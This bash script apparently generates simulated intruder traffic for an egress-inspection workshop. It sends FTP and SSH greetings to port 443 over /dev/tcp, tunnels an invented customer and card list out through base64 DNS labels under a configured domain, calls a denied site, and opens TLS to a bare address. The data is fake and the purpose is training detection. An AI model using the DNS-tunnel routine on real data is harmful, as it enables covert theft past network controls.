#!/bin/bash
# Plays an intruder, so that there is something to hunt. It breaks in nowhere, and what it carries out is made up: it says
# FTP's and SSH's first words to a web server, puts a list of invented customers into names that it asks for, calls a
# denied site, and opens TLS to a bare address. It talks to the names in /etc/inspected-egress/intruder only: example names (RFC 2606) unless the operator put in their own.
# Usage: intruder [ROUNDS [SECONDS]]    default: for ever, a minute apart
set -u

rounds=${1:-0}
pause=${2:-60}
settings=${INTRUDER_SETTINGS:-/etc/inspected-egress/intruder}

usage() {
  echo "usage: intruder [ROUNDS [SECONDS]]   (found: '$rounds' '$pause')" >&2
  exit 2
}
[[ $rounds =~ ^[0-9]+$ && $pause =~ ^[0-9]+$ ]] || usage
# HOST: a web server; DOMAIN: below which names are asked for; DENIED: a site that the firewall should stop.
# shellcheck source=/dev/null
source "$settings"

say() {
  printf '%s %s\n' "$(date -u +%FT%TZ)" "$1"
}

# Greets port 443 in another protocol's words and hangs up.
greet() {
  if timeout 5 bash -c 'exec 3<>"/dev/tcp/$1/443" && printf "$2" >&3 && head -c 64 <&3 >/dev/null' _ "$HOST" "$2" 2>/dev/null; then
    say "$1 on 443: answered"
  else
    say "$1 on 443: no answer"
  fi
}

# Asks for names that carry a file, the way a DNS tunnel does: base64 in numbered labels.
carry_out() {
  local part=0 piece
  while read -r -n 24 piece || [[ -n $piece ]]; do
    getent ahostsv4 "$(( ++part )).$piece.$DOMAIN" >/dev/null
  done < <(printf '%s\n' "Taken $(date -u +%FT%TZ). Invented for the workshop, nobody's data." customer,city,card \
    "Ada Example,Springfield,4000-0000-0000-0001" "Ben Example,Rivertown,4000-0000-0000-0002" \
    "Cleo Example,Lakeside,4000-0000-0000-0003" "Dan Example,Hillview,4000-0000-0000-0004" |
    base64 --wrap 0 | tr '+/' '-_' | tr -d =)
  say "a list of customers in $part names below $DOMAIN"
}

bare_address() {
  address=$(getent ahostsv4 "$HOST" | awk 'NR == 1 { print $1 }')
  [[ -n $address ]] || { say "no address for $HOST"; return; }
  # A bare address is sent without a server name.
  say "TLS to $address without a name: $(curl --silent --insecure --output /dev/null --max-time 5 --write-out '%{http_code}' "https://$address/")"
}

for (( round = 1; rounds == 0 || round <= rounds; round++ )); do
  greet FTP 'USER anonymous\r\nPASS guest@\r\n'
  greet SSH 'SSH-2.0-OpenSSH_9.6\r\n'
  carry_out
  say "denied site $DENIED: $(curl --silent --output /dev/null --max-time 5 --write-out '%{http_code}' "https://$DENIED/")"
  bare_address
  (( round == rounds )) || sleep "$pause"
done
